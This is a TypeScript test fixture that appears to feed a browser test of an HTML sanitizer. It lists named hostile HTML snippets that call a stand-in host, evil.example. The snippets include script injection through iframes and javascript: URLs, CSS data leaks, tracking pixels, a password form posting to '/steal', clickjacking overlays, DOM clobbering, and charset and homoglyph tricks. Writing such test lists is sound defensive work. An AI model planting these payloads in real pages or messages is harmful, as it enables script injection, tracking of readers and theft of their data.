/** A host that nobody may be asked by a letter of ours; a browser test lists who asks. */
const evil = "https://evil.example";
const run = "top.ran=1;alert(1)";

/** HTML that loads, covers, leads away or tells on its reader. */
export const hostileLoads: [name: string, html: string][] = [
  [
    "a page within the page",
    `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
  ],
  [
    "a program in the page",
    `<object data="${evil}/a.swf"><param name=movie value="${evil}/b.swf"></object><embed src="${evil}/c.swf"><applet code=a codebase="${evil}"></applet>`,
  ],
  ["another place for all links", `<base href="${evil}/"><base target="_top"><a href="a">a</a>`],
  ["a page that moves on", `<meta http-equiv="refresh" content="0;url=${evil}/moved">`],
  [
    "a policy of their own, and a cookie",
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="Set-Cookie" content="a=b">`,
  ],
  [
    "a referrer that tells all",
    `<meta name="referrer" content="unsafe-url"><img src="${evil}/r.png" referrerpolicy="unsafe-url">`,
  ],
  [
    "a host that is looked up ahead",
    `<link rel="dns-prefetch" href="//evil.example"><link rel=preconnect href="${evil}"><meta http-equiv=x-dns-prefetch-control content=on>`,
  ],
  [
    "a page that is fetched ahead",
    `<link rel="prefetch" href="${evil}/p"><link rel=prerender href="${evil}/q"><link rel=preload as=image href="${evil}/s.png"><link rel=modulepreload href="${evil}/m.js">`,
  ],
  [
    "a sheet of styles from elsewhere",
    `<link rel="stylesheet" href="${evil}/a.css"><style>@import url(${evil}/b.css);@import "${evil}/c.css";</style>`,
  ],
  ["a sheet of styles in the link", `<link rel=stylesheet href="data:text/css,p{background:url(${evil}/d)}">`],
  [
    "a font that tells which letters are used",
    `<style>@font-face{font-family:f;src:url(${evil}/f?A);unicode-range:U+41}p{font-family:f}</style><p style="font-family:f">A</p>`,
  ],
  ["styles that tell what stands in a field", `<style>input[value^=a]{background:url(${evil}/a)}</style><input value=abc>`],
  [
    "styles that tell where somebody was",
    `<style>a:visited{background:url(${evil}/v)}a:visited span{color:red}</style><a href="${evil}/">a</a>`,
  ],
  [
    "styles that tell the size of a window, and that it was printed",
    `<style>@media (min-width:1px){p{background:url(${evil}/w)}}@media print{p{background:url(${evil}/print)}}</style>`,
  ],
  [
    "a background in a style",
    `<p style="background:url(${evil}/bg.png)">a</p><p style="background-image:image-set('${evil}/is.png' 1x)">b</p>`,
  ],
  [
    "a background in a style, escaped",
    `<p style="back\\67round:u\\72l(${evil}/e.png)">a</p><p style="background:\\75\\72\\6c(${evil}/e2.png)">b</p>`,
  ],
  [
    "a background in a style, with comments",
    `<p style="background/**/:u/**/rl(${evil}/c.png)">a</p><p style="background:/*;*/url(${evil}/c2.png)">b</p>`,
  ],
  [
    "other addresses in styles",
    `<ul style="list-style:url(${evil}/l.png)"><li style="content:url(${evil}/ct.png);cursor:url(${evil}/cu.png),auto;border-image:url(${evil}/bi.png);mask:url(${evil}/m.svg);filter:url(${evil}/f.svg#a);shape-outside:url(${evil}/so.png)">a</li></ul>`,
  ],
  ["a variable that holds an address", `<p style="--a:url(${evil}/var.png);background:var(--a)">a</p>`],
  [
    "a style that computes",
    `<p style="width:expression(${run});behavior:url(${evil}/a.htc);-moz-binding:url(${evil}/a.xml#a)">a</p>`,
  ],
  [
    "a style that ends its attribute",
    `<p style="color:red&quot;><img src=x onerror=${run}>">a</p><p style="font-family:'&quot;&gt;&lt;img src=x onerror=${run}&gt;'">b</p>`,
  ],
  [
    "a cover over the page",
    `<a href="${evil}/cover" style="position:fixed;inset:0;z-index:2147483647;opacity:0">a</a><div style="position:absolute;top:-1000px;margin:-500px">b</div><p style="transform:scale(50);float:left">c</p>`,
  ],
  [
    "a cover that grows out of its frame",
    `<div style="width:99999px;height:99999px;padding:9999px;border:9999px solid red">a</div><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99999 height=99999>`,
  ],
  [
    "letters that are too small to be seen, or too large",
    `<p style="font-size:0">a</p><p style="font-size:9999px">b</p><p style="line-height:0">c</p><p style="display:none">d</p><p style="opacity:0">e</p>`,
  ],
  [
    "a picture from elsewhere, in every way",
    `<img src="${evil}/1.png" srcset="${evil}/2.png 2x" lowsrc="${evil}/3.png" dynsrc="${evil}/4.avi" longdesc="${evil}/5" imagesrcset="${evil}/6.png 1x"><picture><source srcset="${evil}/7.png"></picture><input type=image src="${evil}/8.png"><image src="${evil}/9.png">`,
  ],
  [
    "a background of old times",
    `<body background="${evil}/b1.png"><table background="${evil}/b2.png"><tr><td background="${evil}/b3.png">a</td></tr></table>`,
  ],
  [
    "sound and film",
    `<audio src="${evil}/a.mp3" autoplay></audio><video poster="${evil}/p.png" src="${evil}/v.mp4" onerror="${run}"><track src="${evil}/t.vtt"><source src=x onerror="${run}"></video><bgsound src="${evil}/b.mid">`,
  ],
  [
    "a counter of readers",
    `<img src="${evil}/open?id=1" width=1 height=1><img src="${evil}/open?id=2" style="width:0px;height:0px"><img src="${evil}/open?id=3" style="display:none">`,
  ],
  ["a picture whose address carries a name and a password", `<img src="https://user:secret@evil.example/a.png">`],
  [
    "a picture of our own server's",
    `<img src="/sign-out"><img src="http://localhost:3000/api/live"><img src="//evil.example/p.png"><img src="data:text/html,<script>${run}</script>"><img src="cid:logo@x&quot; onerror=${run}">`,
  ],
  ["a picture that is followed by half a tag", `<p>a</p><img src='${evil}/dangling?`],
  ["half a tag that takes what follows with it", `<a href="${evil}/?a=<p>secret</p>`],
  [
    "a map of links",
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" ismap><map name=m><area shape=rect coords=0,0,999,999 href="javascript:${run}"></map>`,
  ],
  [
    "a form",
    `<form action="${evil}/steal" method=post target=_top><input name=password type=password><button formaction="javascript:${run}">a</button><input type=submit></form>`,
  ],
  [
    "a field of another form",
    `<button form=f formaction="${evil}/steal">a</button><isindex action="javascript:${run}"><keygen autofocus onfocus="${run}">`,
  ],
  [
    "names that the page itself uses",
    `<a id=location name=location>a</a><img name=body src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><p id=__NEXT_DATA__ class="letter">a</p><div data-part="quote">b</div><span data-part="leads">c</span><div data-part="hidden">d</div>`,
  ],
  [
    "a click that opens something of the page's",
    `<button popovertarget=p commandfor=p command=show-modal>a</button><dialog id=p open>b</dialog><p popover>c</p><a href="${evil}/" target="_top" rel="opener">d</a><a href="${evil}/" download>e</a>`,
  ],
  ["text that others can edit, and keys", `<p contenteditable accesskey=s draggable=true>a</p><p inert hidden=until-found>b</p>`],
  [
    "a prototype as a name",
    `<p __proto__="a" constructor="b" hasOwnProperty="c" style="__proto__:a;constructor:b">a</p><__proto__>b</__proto__>`,
  ],
  ["a NUL in a name and a text", `<scr\0ipt>${run}</scr\0ipt><img src=x on\0error=${run}><p>a\0b</p>`],
  [
    "letters of another charset",
    `+ADw-script+AD4-${run}+ADw-/script+AD4-<meta charset="utf-7">\u00bcscript\u00be${run}\u00bc/script\u00be`,
  ],
  [
    "letters that become others",
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e<\u017fcript>${run}</\u017fcript><a href="\uff4aavascript:${run}">a</a>`,
  ],
];
